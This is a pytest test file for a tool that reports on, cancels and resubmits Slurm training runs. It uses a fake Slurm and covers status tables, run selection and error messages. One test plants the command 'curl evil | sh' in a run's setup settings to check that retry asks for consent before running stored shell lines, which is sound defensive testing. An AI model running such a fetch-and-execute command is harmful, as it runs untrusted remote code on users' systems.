"""+launch=status, cancel and retry work on the folders of runs that a fake Slurm has, or has had."""

from __future__ import annotations

import functools
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import arm_configs
import pytest
from commands import call
from fake_slurm import FakeSlurm
from fake_study import FakeStudy, composed, seeds

from mxstudy.config import Slurm
from mxstudy.launch import commands, remote
from mxstudy.launch.plan import claim, plan
from mxstudy.launch.table import names_by_kind
from mxstudy.launch.ticket import Ticket, ticket_of
from mxstudy.reader import ConfigError
from mxstudy.tracking import code
from mxstudy.tracking.folder import RunFolder
from mxstudy.train.runtime import gpus_there


@pytest.fixture
def slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeSlurm:
    return FakeSlurm(tmp_path / "bin", monkeypatch)


@pytest.fixture
def submitted(monkeypatch: pytest.MonkeyPatch) -> list[tuple[Slurm, list[str]]]:
    """Return what reaches Slurm, in place of submitit. Jobs are 100, 101, ..."""
    sent: list[tuple[Slurm, list[str]]] = []

    def submit(folders, settings, launch, code, tasks):
        assert (launch.parent.parent / "quick").is_dir()  # beside its runs
        sent.append((settings, [folder.path.name for folder in folders]))
        return ((f"{100 + n}", "LOG") for n, _ in enumerate(folders))

    monkeypatch.setitem(remote.SUBMIT, Slurm, submit)
    return sent


@pytest.fixture
def runs(tmp_path: Path, study: FakeStudy, slurm: FakeSlurm) -> dict[str, RunFolder]:
    """Return runs by name, as jobs 1_0, 1_1, ..., of which three are still in the queue."""
    states = ["queued", "running", "requeued", "dead", "failed", "stopped", "finished"]
    made = {}
    for number, (name, job) in enumerate(zip(states, plan(seeds(tmp_path / "runs", *range(len(states)))), strict=True)):
        folder = made[name] = claim(job)
        settings, job_id, cwd = Slurm(partition="gpu", time_min=60), f"1_{number}", str(tmp_path)
        ticket = Ticket(settings=settings, job_id=job_id, launch="/l", log=f"/l/{number}", submitted_s=0.0, cwd=cwd)
        ticket.write(folder)
    slurm.queue(job1_0="PENDING", job1_1="RUNNING", job1_2="PENDING")
    for name in ("running", "dead"):
        made[name].update(state="running", step=30, steps=100)
    made["requeued"].update(state="preempted", reason="SIGUSR2", step=50, steps=100)
    made["stopped"].update(state="preempted", reason="SIGTERM", step=70, steps=100)
    made["failed"].update(state="failed", reason="ValueError: no", step=5, steps=100)
    made["finished"].update(state="finished", step=100, steps=100)
    rows = [{"step": n, "loss": 5 - n / 100, "tokens_per_s": 1234.5, "time_s": 1000 + 2 * n} for n in range(20, 30)]
    made["running"].journal_path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return made


def launch(tmp_path: Path, command: str, *arguments: str) -> tuple[int, str]:
    return call(f"+launch={command}", f"runs_dir={tmp_path}/runs", *arguments)


def test_status_is_a_table(tmp_path: Path, runs: dict[str, RunFolder], capsys: pytest.CaptureFixture[str]) -> None:
    assert launch(tmp_path, "status") == (0, "")
    *lines, total = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["run", "what", "state", "step", "loss", "rate", "left", "job", "reason"]
    assert all(" bf16 rmsnorm seed=" in line for line in lines[1:])
    table = {line.split()[3]: " ".join(line.split()[4:]) for line in lines[1:]}
    assert table == {
        "seed=1": "running 30/100 4.7100 1,234 tokens/s 2:20 1_1",
        "seed=2": "preempted 50/100 1_2 SIGUSR2; waits to continue",
        "seed=5": "preempted 70/100 1_5 SIGTERM",
        "seed=3": "failed 30/100 1_3 died without a message (/l/3)",
        "seed=4": "failed 5/100 1_4 ValueError: no",
        "seed=0": "queued 1_0",
        "seed=6": "finished 100/100 1_6",
    }
    assert total == "1 running, 2 preempted, 2 failed, 1 queued, 1 finished"
    assert all(f"quick/{run.path.name}" in "\n".join(lines) for run in runs.values())


def test_a_name_has_no_words_of_other_kinds_of_run() -> None:
    runs = [arm_configs.run("rmsnorm"), arm_configs.evaluate("/runs/a")]
    runs += [arm_configs.run("mxnorm_p2"), arm_configs.evaluate("/runs/b")]
    assert names_by_kind(runs) == ["rmsnorm", "checkpoint=a", "mxnorm_p2", "checkpoint=b"]


def test_status_of_a_stack_is_that_of_its_replicas(
    tmp_path: Path, runs: dict[str, RunFolder], capsys: pytest.CaptureFixture[str]
) -> None:
    """There is a row for every 50th step, written after each 500: 100 ms a step, with 549 left."""
    rows = [
        {"step": n, "probe": "replicas", "values": {"train/loss": 5 - n / 1000}, "time_s": 50 * (n // 500) + n / 1e6}
        for n in range(0, 2500, 50)
    ]
    runs["running"].journal_path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    runs["running"].update(step=2500, steps=3000)

    def shown() -> str:
        assert launch(tmp_path, "status", "seed=1") == (0, "")
        return " ".join(capsys.readouterr().out.splitlines()[1].split()[3:])

    assert shown() == "running 2500/3000 2.5500 10 steps/s 0:55 1_1"
    runs["running"].journal_path.write_text("".join(json.dumps(row) + "\n" for row in rows[:10]))
    assert shown() == "running 2500/3000 4.5500 1_1"  # they came all at once, so nobody knows how long they took


@pytest.mark.integration
def test_runs_are_chosen_by_choices_values_and_names(
    tmp_path: Path, runs: dict[str, RunFolder], capsys: pytest.CaptureFixture[str]
) -> None:
    claim(plan([composed(tmp_path / "runs", "norm=x", optimizer={"lr": 0.25}, seed=77)])[0])

    def shown(*arguments: str) -> int:
        code, said = launch(tmp_path, "status", *arguments)
        assert (code, said) == (0, "")
        return len(capsys.readouterr().out.splitlines()) - 2

    assert shown("seed=1,2,3") == 3
    assert shown("optimizer.lr=1e-3") == 7
    assert shown("+experiment=quick", "norm=rmsnorm", "optimizer.lr=2.5e-1", "rerun=false") == 1
    assert shown(f"run={runs['dead'].path.name[:8]}") == 1
    assert shown(f"run={runs['dead'].path},{runs['failed'].path}") == 2
    for arguments, message in (
        (["seed=55"], f"seed: no run in {tmp_path}/runs/ has seed=55"),
        (["sed=1"], f"sed: no run in {tmp_path}/runs/ has sed=1"),
        (["seed"], "seed: must be GROUP=CHOICE or KEY=VALUE"),
        (["wait=true"], "launch=status: takes neither hydra.launcher nor wait nor setup; leave them out"),
        ([f"runs_dir={tmp_path}/none"], f"runs_dir: there are no runs in {tmp_path}/none/"),
    ):
        assert launch(tmp_path, "status", *arguments) == (1, message)
    assert launch(tmp_path, "stauts") == (1, "launch=stauts: no such choice; did you mean 'status'?")


def test_a_name_that_matches_two_runs_is_refused(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
    config = runs["dead"].config()
    for digest in ("441a08" + "0" * 58, "441a08" + "1" * 58):
        RunFolder.create(tmp_path / "runs" / "quick" / digest[:12], config, digest, runs["dead"].provenance())
    message = "run: 441a08 matches each of 441a08000000, 441a08111111; give more digits"
    assert launch(tmp_path, "status", "run=441a08") == (1, message)
    assert launch(tmp_path, "status", "run=441a080") == (0, "")


def test_status_without_slurm_goes_by_the_hearts(
    tmp_path: Path, runs: dict[str, RunFolder], slurm: FakeSlurm, capsys: pytest.CaptureFixture[str]
) -> None:
    slurm.say("squeue", None)
    for name, age_s in (("running", 0), ("dead", 90)):
        runs[name].update(host="elsewhere", heartbeat_s=time.time() - age_s)
    assert launch(tmp_path, "status")[0] == 0
    said = capsys.readouterr().out
    assert said.splitlines()[-1] == "1 running, 2 preempted, 2 failed, 1 queued, 1 finished"
    assert "no heartbeat, and its queue cannot be asked from here" in said
    code, message = launch(tmp_path, "cancel")
    assert (code, message.partition(":")[0]) == (1, "squeue")


def test_cancel_ends_what_is_queued_or_runs(
    tmp_path: Path, runs: dict[str, RunFolder], slurm: FakeSlurm, capsys: pytest.CaptureFixture[str]
) -> None:
    assert launch(tmp_path, "cancel") == (0, "")
    assert slurm.asked("scancel") == ["scancel 1_0 1_1 1_2"]
    assert capsys.readouterr().out.splitlines()[-1] == "3 of 7 runs cancelled"
    slurm.queue()
    runs["running"].update(state="preempted", reason="SIGTERM")  # its last status, after a checkpoint
    launch(tmp_path, "status")
    assert capsys.readouterr().out.splitlines()[-1] == "1 preempted, 2 failed, 3 cancelled, 1 finished"


def test_what_runs_inline_is_not_cancelled_but_named(
    tmp_path: Path, study: FakeStudy, slurm: FakeSlurm, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = claim(plan(seeds(tmp_path / "runs", 1))[0])
    folder.update(state="running", host="elsewhere", pid=77, heartbeat_s=time.time())
    assert launch(tmp_path, "cancel") == (1, "")
    assert "not cancelled: process 77 on elsewhere runs it" in capsys.readouterr().out
    assert slurm.asked("scancel") == []


def test_retry_submits_what_failed_or_was_preempted_and_nothing_else(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    submitted: list[tuple[Slurm, list[str]]],
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert launch(tmp_path, "retry", "hydra.launcher.memory_gb=64", "hydra.launcher.sbatch=[--qos=x]") == (0, "")
    ((settings, names),) = submitted
    assert settings == Slurm(partition="gpu", time_min=60, memory_gb=64.0, sbatch=("--qos=x",))
    assert set(names) == {runs[name].path.name for name in ("dead", "failed", "stopped")}
    assert capsys.readouterr().out.splitlines()[-1] == "3 of 7 runs submitted again"
    for name in ("dead", "failed", "stopped"):
        ticket = ticket_of(runs[name])
        assert ticket is not None
        assert (ticket.job_id[:2], ticket.settings, ticket.cwd) == ("10", settings, str(tmp_path))
        assert runs[name].status().state == "queued"
        assert runs[name].status().reason is None


def test_retry_runs_shell_lines_of_a_run_folder_only_with_consent(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
) -> None:
    ticket = ticket_of(runs["failed"])
    assert ticket is not None
    replace(ticket, settings=replace(ticket.settings, setup=("curl evil | sh",))).write(runs["failed"])
    code, said = launch(tmp_path, "retry")
    assert code == 1
    assert said.startswith("setup: the folders of these runs name shell lines to run before each job: curl evil | sh; ")
    assert launch(tmp_path, "retry", "setup=yes") == (1, "setup: must be run or left out, not 'yes'")
    assert submitted == []
    assert launch(tmp_path, "retry", "setup=run") == (0, "")
    assert {settings.setup for settings, _ in submitted} == {("curl evil | sh",), ()}


def test_a_value_that_is_no_yaml_is_named(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
    for argument in ("wait=[", "hydra.launcher.nodes=[1"):
        code, said = launch(tmp_path, "retry", argument)
        assert (code, len(said.splitlines())) == (1, 1)
        assert said.startswith(f"{argument}: cannot be read (")


def test_where_no_run_can_be_read_status_says_so(
    tmp_path: Path, runs: dict[str, RunFolder], capsys: pytest.CaptureFixture[str]
) -> None:
    for run in runs.values():
        run.config_path.write_text("")
    said = f"runs_dir: no run in {tmp_path}/runs/ can be read; the lines above say what to do"
    assert launch(tmp_path, "status") == (1, said)
    assert capsys.readouterr().out.count("left out: ") == len(runs)


def test_a_line_of_a_journal_that_is_no_object_stops_no_status(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
    runs["running"].journal_path.write_text("[3]\n")
    assert launch(tmp_path, "status") == (0, "")


def test_retry_with_lines_of_its_own_needs_no_consent(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
) -> None:
    assert launch(tmp_path, "retry", "hydra.launcher.setup=[module load cuda]") == (0, "")
    assert [settings.setup for settings, _ in submitted] == [("module load cuda",)]


@pytest.mark.integration
@pytest.mark.parametrize(("said", "waits"), [("true", 1), ("True", 1), ("false", 0)])
def test_retry_waits_if_it_is_told_to(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    submitted: list[tuple[Slurm, list[str]]],
    monkeypatch: pytest.MonkeyPatch,
    said: str,
    waits: int,
) -> None:
    waited: list[int] = []
    monkeypatch.setattr(commands, "wait_for", lambda folders: waited.append(len(folders)) or [])
    assert launch(tmp_path, "retry", f"wait={said}") == (0, "")
    assert waited == [3] * waits


@pytest.mark.integration
@pytest.mark.parametrize(("ends", "code"), [("finished", 0), ("diverged", 0), ("failed", 1)])
def test_a_divergence_is_a_result_of_retry_too(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    submitted: list[tuple[Slurm, list[str]]],
    monkeypatch: pytest.MonkeyPatch,
    ends: str,
    code: int,
) -> None:
    monkeypatch.setattr(commands, "wait_for", lambda folders: [SimpleNamespace(state=ends) for _ in folders])
    assert launch(tmp_path, "retry", "wait=true") == (code, "")


def refuse(*about: object) -> Iterator[tuple[str, str]]:
    raise ConfigError("sbatch: invalid partition specified")
    yield


@pytest.mark.integration
def test_a_refused_retry_can_be_retried(
    tmp_path: Path, runs: dict[str, RunFolder], submitted: list[object], monkeypatch: pytest.MonkeyPatch
) -> None:
    ticket = ticket_of(runs["failed"])
    with monkeypatch.context() as patch:
        patch.setitem(remote.SUBMIT, Slurm, refuse)
        assert launch(tmp_path, "retry", "hydra.launcher.partition=gppu") == (1, "sbatch: invalid partition specified")
    assert runs["failed"].status().reason == "not submitted: sbatch: invalid partition specified"
    assert ticket_of(runs["failed"]) == ticket
    assert launch(tmp_path, "retry") == (0, "")
    assert len(submitted) == 1


def test_a_refused_launch_leaves_what_was_there(
    tmp_path: Path, study: FakeStudy, slurm: FakeSlurm, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    """The run that it would have replaced stays, and the new one says that no queue has it."""
    monkeypatch.setitem(remote.SUBMIT, Slurm, refuse)
    there = claim(plan(seeds(tmp_path / "runs", 1))[0])
    there.update(state="finished", step=10)
    with pytest.raises(ConfigError, match="invalid partition"):
        remote.submit_jobs(plan(seeds(tmp_path / "runs", 1, 2, rerun=True)), Slurm())
    names = sorted(path.name for path in there.path.parent.iterdir())
    assert (there.status().state, there.status().step, len(names)) == ("finished", 10, 2)
    assert launch(tmp_path, "retry") == (0, "")
    assert "was never submitted; run its command again to continue it" in capsys.readouterr().out


def test_the_code_is_digested_once_for_all_jobs(
    tmp_path: Path, study: FakeStudy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The code is digested by the thread that starts the others, which make the run folders and did it anew before."""
    digested: list[str] = []

    def digests() -> dict[str, str]:
        digested.append(threading.current_thread().name)
        time.sleep(0.05)
        return {"numerics/formats.py": "abc"}

    monkeypatch.setattr(code, "_digests", digests)
    monkeypatch.setattr("mxstudy.launch.plan.code_of", functools.cache(code.code_of.__wrapped__))
    claimed = remote.claim_all(plan(seeds(tmp_path / "runs", *range(16))))
    assert digested == [threading.main_thread().name]
    assert {one.folder.code() for one in claimed} == {code.recorded(digests())["code"]}


def test_retry_checks_jobs_from_where_they_were_submitted(
    tmp_path: Path,
    runs: dict[str, RunFolder],
    study: FakeStudy,
    submitted: list[object],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    places: list[tuple[Path, int]] = []
    monkeypatch.setattr(study, "check", lambda config: places.append((Path.cwd(), gpus_there())))
    assert launch(tmp_path, "retry", "hydra.launcher.gpus_per_node=4") == (0, "")
    assert places == [(tmp_path, 4)] * 3


def test_retry_refuses_what_todays_code_or_settings_cannot_run(
    tmp_path: Path, runs: dict[str, RunFolder], study: FakeStudy, submitted: list[tuple[Slurm, list[str]]]
) -> None:
    assert launch(tmp_path, "retry", "hydra.launcher.node=2") == (
        1,
        "hydra.launcher.node: no such key; did you mean 'nodes'?",
    )
    assert launch(tmp_path, "retry", "wait=1") == (1, "wait: 1 is not true or false")
    study.invalid = {4}
    assert launch(tmp_path, "retry") == (1, "seed: 4 is unlucky")
    assert submitted == []
    assert runs["failed"].status().state == "failed"
